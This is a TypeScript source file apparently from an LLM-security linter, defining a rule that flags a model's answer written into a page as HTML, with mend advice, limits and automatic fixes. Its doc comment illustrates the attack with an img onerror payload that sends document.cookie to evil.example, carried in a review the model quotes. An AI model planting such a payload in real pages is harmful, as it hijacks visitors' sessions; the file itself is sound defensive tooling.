import { escapeHtml, sanitizeHtml, writeAsText } from '../../analysis';
import { flowRule } from '../flowRule';
import { sinkGuards } from '../sinkGuards';
import { nist, owasp } from '../taxonomies';

/**
 * Text that a model wrote is put into a page as HTML.
 *
 * A model repeats what it read, tags included. A script, or a picture with an `onerror`, then runs in the visitor's
 * browser as if the site had written it: it reads the session, sends messages in the visitor's name, or loads a picture
 * whose address carries the conversation away.
 *
 * ## An attack
 *
 * 1. A page shows the answer with `element.innerHTML = answer`.
 * 2. A review that the model quotes holds `<img src=x onerror="fetch('https://evil.example/?' + document.cookie)">`.
 * 3. Every visitor who asks about the product sends a cookie to a stranger.
 *
 * ## How to mend it by hand
 *
 * Write the answer as text (`textContent`, the braces of JSX, a template that escapes). Where markup is wanted, render
 * it and then clean the result with a sanitizer (DOMPurify, sanitize-html, nh3, bleach), as the last step.
 *
 * ## Limits
 *
 * A sanitizer of your own is not recognized, and neither is a policy of the page that forbids scripts.
 * An answer that is sent as a response is reported where the program says that it is HTML, by what sends it or by the
 * header for its type, or where it writes elements of HTML around it. What a framework takes for HTML by default is not
 * reported by that alone.
 * An answer that waits in the state of a component is not followed.
 *
 * ## Fix safety
 *
 * All fixes are for review. Written as text, markup in the answer is shown instead of rendered; a sanitizer drops
 * what it does not allow. The sanitizer is one that the file imports already; without one there is a fix where the
 * answer is all that is written into an element, and in Python, where the standard library escapes.
 */
export const unsafeHtml = flowRule({
  id: 'output/unsafe-html',
  summary: "A model's answer is written as HTML",
  why: 'Scripts in it run in the page, with the rights of the visitor.',
  severity: 'error',
  profile: 'recommended',
  taxonomies: { owasp: owasp('LLM05'), cwe: [79], nist: [nist.informationSecurity] },
  concerns: ['threat protection'],
  from: ['model'],
  to: ['html'],
  guards: ['known-values'],
  guardsFor: { html: sinkGuards.html },
  message: ({ flow, sources }) => `The HTML for ${flow.sink.label} depends on the answer of ${sources}.`,
  fixes: (flows) => [sanitizeHtml(flows), writeAsText(flows), escapeHtml(flows)],
});
